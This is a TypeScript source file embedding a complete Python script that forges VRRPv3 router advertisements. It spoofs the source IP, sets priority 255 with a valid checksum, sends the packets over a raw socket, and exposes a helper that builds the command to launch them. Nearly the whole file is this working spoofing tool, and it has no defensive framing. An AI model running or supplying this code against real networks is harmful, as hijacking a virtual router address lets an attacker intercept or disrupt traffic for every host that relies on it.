/** A VRRP advertisement that somebody makes up. */
export interface ForgedAdvert {
  /** Whose it claims to be. */
  readonly source: string;
  readonly target: string;
  readonly vip: string;
  readonly vrid: number;
}

/** Sends one VRRPv3 advert of priority 255 over a raw socket; argument: a JSON list of adverts. */
const PROGRAM = `import json, socket, struct, sys
def total(data):
    words = struct.unpack('!%dH' % (len(data) // 2), data)
    value = sum(words)
    while value >> 16: value = (value & 0xffff) + (value >> 16)
    return ~value & 0xffff
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for advert in json.loads(sys.argv[1]):
    source, target = socket.inet_aton(advert['source']), socket.inet_aton(advert['target'])
    def body(checksum): return struct.pack('!BBBBHH4s', 0x31, advert['vrid'], 255, 1, 30, checksum, socket.inet_aton(advert['vip']))
    pseudo = source + target + struct.pack('!BBH', 0, 112, 12)
    vrrp = body(total(pseudo + body(0)))
    header = struct.pack('!BBHHHBBH4s4s', 0x45, 0xc0, 20 + len(vrrp), 0, 0, 255, 112, 0, source, target)
    try: raw.sendto(header + vrrp, (advert['target'], 0))
    except OSError as trouble: print(trouble)
`;

/** The command that sends them, where CAP_NET_RAW is to be had. */
export const forge = (adverts: readonly ForgedAdvert[]): string[] => [
  'python3',
  '-c',
  PROGRAM,
  JSON.stringify(adverts),
];
